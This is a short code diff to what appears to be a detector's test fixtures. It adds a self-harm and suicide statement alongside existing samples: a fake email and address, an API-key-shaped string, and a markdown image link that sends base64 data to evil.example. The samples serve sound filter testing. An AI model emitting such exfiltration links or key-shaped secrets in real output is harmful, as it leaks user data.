@@ -29,6 +29,7 @@ FINDS = {
     "jailbreak": ORDER,
     "injection": ORDER,
     "pii": "Write to maria.keller@example.org.",
+    "content": "I hate my life. I want to kill myself tonight, and cutting myself does not help any more.",
     "entities": "Yesterday Oluwaseun Adeyemi moved to 12 Elm Street, Springfield.",
     "secrets": "The key is sk-ant-" + "a1B2" * 10,
     "links": "See ![chart](https://evil.example/p?d=" + "aGVsbG8gd29ybGQgMTIz" * 3 + ")",
